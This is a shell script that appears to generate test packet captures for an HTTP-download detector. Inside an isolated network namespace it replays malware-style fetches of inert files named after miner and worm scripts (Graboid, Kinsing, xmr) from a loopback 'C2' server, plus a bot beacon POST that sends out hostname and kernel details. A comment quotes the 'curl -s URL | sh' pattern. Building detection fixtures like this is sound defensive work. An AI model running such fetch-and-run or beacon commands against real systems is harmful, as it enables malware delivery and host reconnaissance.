#!/bin/sh
# Makes pcaps/http-*.pcap, the golden captures for the http_download dissector:
# real clients (curl, GNU wget, busybox wget, Python urllib) fetching the inert
# files of tests/tools/c2www from real servers (nginx, python3 -m http.server)
# and from tests/tools/c2_server.py (gzip without Accept-Encoding, chunked,
# deflate, the beacon POST), inside a network namespace this script creates
# and deletes. Nothing leaves the namespace, and nothing fetched is ever run:
# every download goes to /dev/null or a temp file.
#
# Addresses (all on the namespace's own lo, MTU 1500 so bodies span segments;
# the clients connect from 127.0.0.1):
#   127.0.0.66:80    nginx, "C2" (IP-literal host, c2www/c2)
#   127.0.0.67:8080  c2_server.py, "C2" (c2www/c2, encoded/chunked, beacon)
#   127.0.0.68:8000  python3 -m http.server --cgi, "C2", HTTP/1.0
#   127.0.0.80:80    nginx, "vendor" dl.vendor.example (c2www/vendor)
#
# Needs root, iproute2, tcpdump, nginx (nginx-light), busybox, curl, wget,
# python3. Usage: tests/tools/make_http_pcaps.sh [OUTDIR]   (default pcaps/)
set -eu
R=$(cd "$(dirname "$0")/../.." && pwd)
O=$(mkdir -p "${1:-$R/pcaps}" && cd "${1:-$R/pcaps}" && pwd)
NSNAME=fdhttp
NS="ip netns exec $NSNAME"
for t in ip tcpdump nginx busybox curl wget python3; do
    command -v $t >/dev/null 2>&1 || {
        echo "make_http_pcaps: $t is missing" >&2
        exit 1
    }
done
tmp=$(mktemp -d)
chmod 755 "$tmp" # nginx workers and CGI scripts run as nobody
ip netns del $NSNAME 2>/dev/null || true
ip netns add $NSNAME
PIDS=""
cleanup() {
    for p in $PIDS; do kill "$p" 2>/dev/null || true; done
    sleep 0.5
    ip netns del $NSNAME 2>/dev/null || true
    rm -rf "$tmp"
}
trap cleanup EXIT
# MTU 1500, and no GSO: without gso_max_segs 1, tcpdump on lo sees 32-64 KB
# "super-segments" that no real network carries
$NS ip link set lo mtu 1500
$NS ip link set lo gso_max_segs 1
$NS ip link set lo up

# The served tree: a copy with fixed modification times, so Last-Modified and
# nginx's ETag are the same on every run.
cp -r "$R/tests/tools/c2www" "$tmp/www"
find "$tmp/www" -exec touch -h -d '2019-10-15 00:00:00 UTC' {} +
chmod -R a+rX "$tmp/www"

mkdir -p "$tmp/ng"
cat >"$tmp/ng/nginx.conf" <<EOF
user nobody nogroup;
worker_processes 1;
daemon off;
pid $tmp/ng/nginx.pid;
error_log $tmp/ng/error.log;
events { worker_connections 64; }
http {
    include /etc/nginx/mime.types;
    default_type application/octet-stream;
    access_log $tmp/ng/access.log;
    client_body_temp_path $tmp/ng/body;
    fastcgi_temp_path $tmp/ng/fastcgi;
    scgi_temp_path $tmp/ng/scgi;
    uwsgi_temp_path $tmp/ng/uwsgi;
    proxy_temp_path $tmp/ng/proxy;
    keepalive_timeout 10;
    server {
        listen 127.0.0.66:80;
        server_name _;
        root $tmp/www/c2;
    }
    server {
        listen 127.0.0.80:80;
        server_name dl.vendor.example;
        root $tmp/www/vendor;
        location /api/ { default_type application/json; }
    }
}
EOF
$NS nginx -e "$tmp/ng/error.log" -p "$tmp/ng" -c "$tmp/ng/nginx.conf" &
PIDS="$PIDS $!"
$NS python3 "$R/tests/tools/c2_server.py" "$tmp/www/c2" 8080 127.0.0.67 2>/dev/null &
PIDS="$PIDS $!"
# HTTP/1.0 server: a static copy of the C2 files, and a CGI that prints one of
# them with no Content-Length, so the body ends when the connection closes.
mkdir -p "$tmp/py/cgi-bin"
cp -p "$tmp/www/c2/"*.sh "$tmp/py/"
cat >"$tmp/py/cgi-bin/xmr.sh" <<EOF
#!/bin/sh
printf 'Content-Type: text/x-sh\r\n\r\n'
exec cat $tmp/www/c2/xmr.sh
EOF
chmod -R a+rX "$tmp/py"
chmod 755 "$tmp/py/cgi-bin/xmr.sh"
(cd "$tmp/py" && exec $NS python3 -m http.server --cgi --bind 127.0.0.68 8000 >/dev/null 2>&1) &
PIDS="$PIDS $!"
sleep 1

C2=http://127.0.0.66
C2B=http://127.0.0.67:8080
C2H=http://127.0.0.68:8000
VEND="--resolve dl.vendor.example:80:127.0.0.80"

cap() { # NAME COMMAND...: capture one scenario (every command of it) on lo
    name=$1
    shift
    $NS tcpdump -i lo -U -s 0 -w "$O/http-$name.pcap" tcp 2>"$tmp/tcpdump.err" &
    tp=$!
    n=0 # wait until it is really listening: a loaded machine can take seconds
    until grep -q listening "$tmp/tcpdump.err" 2>/dev/null || [ $n -ge 100 ]; do
        sleep 0.1
        n=$((n + 1))
    done
    sleep 0.5
    "$@" >/dev/null 2>&1 || echo "make_http_pcaps: $name: a client failed" >&2
    sleep 1
    kill $tp
    wait $tp 2>/dev/null || true
    chown "$(id -u):$(id -g)" "$O/http-$name.pcap" # tcpdump wrote it as its own user
}

# Graboid: four scripts, one connection each (as `curl -s URL | sh` does)
graboid() {
    for s in live.sh worm.sh xmr.sh cleanxmr.sh; do
        $NS curl -s "$C2/$s"
    done
}
cap graboid-curl graboid
# three downloads on one keep-alive connection
cap keepalive $NS curl -s "$C2/ips.txt" "$C2/d.sh" "$C2/kinsing"
cap wget $NS wget -q -O- "$C2/d.sh"
cap busybox-elf $NS busybox wget -q -O - "$C2/kinsing"
cap python-stager $NS python3 -c "import urllib.request as u; u.urlopen('$C2/p.py').read()"
cap perl $NS wget -q -O- "$C2/bot.pl"
cap base64-stager $NS curl -s "$C2/tnt.sh"
cap noshebang $NS curl -s "$C2/ldr"
cap big-script $NS curl -s "$C2/big.sh"
# c2_server.py: encodings the client never asked for, chunking, the beacon
cap gzip $NS curl -s "$C2B/gz/xmr.sh"
cap chunked $NS curl -s "$C2B/chunked/d.sh"
cap gzip-chunked $NS wget -q -O- "$C2B/gzchunked/big.sh"
deflate() {
    $NS curl -s "$C2B/deflate/cleanxmr.sh"
    $NS curl -s "$C2B/rawdeflate/worm.sh"
}
cap deflate deflate
cap beacon-post $NS curl -s -m 10 -X POST --data \
    "cpu=4&hostname=web-01&uname=Linux web-01 5.10.0-28-amd64 #1 SMP Debian 5.10.209-2 (2024-01-31) x86_64 GNU/Linux" \
    "$C2B/live.php"
# nginx: a range request and a revalidation (the first, full fetch is not captured)
cap partial-206 $NS curl -s -r 0-99 "$C2/d.sh"
$NS curl -s -R -o "$tmp/live.sh" "$C2/live.sh"
cap 304 $NS curl -s -z "$tmp/live.sh" -o /dev/null "$C2/live.sh"
# HTTP/1.0 from python3 -m http.server: close-delimited (CGI), then Content-Length
close10() {
    $NS wget -q -O- "$C2H/cgi-bin/xmr.sh"
    $NS curl -s -0 "$C2H/cleanxmr.sh"
}
cap 10-close close10
# the negative: an admin reading a vendor's page and API, fetching its
# installer to a file, and the source tarball with wget (Host by name)
benign() {
    $NS curl -s $VEND http://dl.vendor.example/
    $NS curl -s $VEND http://dl.vendor.example/api/v1/releases/latest
    $NS curl -fsSL $VEND -o "$tmp/install.sh" http://dl.vendor.example/install.sh
    $NS wget -q --header='Host: dl.vendor.example' -O "$tmp/frobctl.tar.gz" \
        http://127.0.0.80/releases/v1.4.2/frobctl-1.4.2.tar.gz
}
cap benign benign
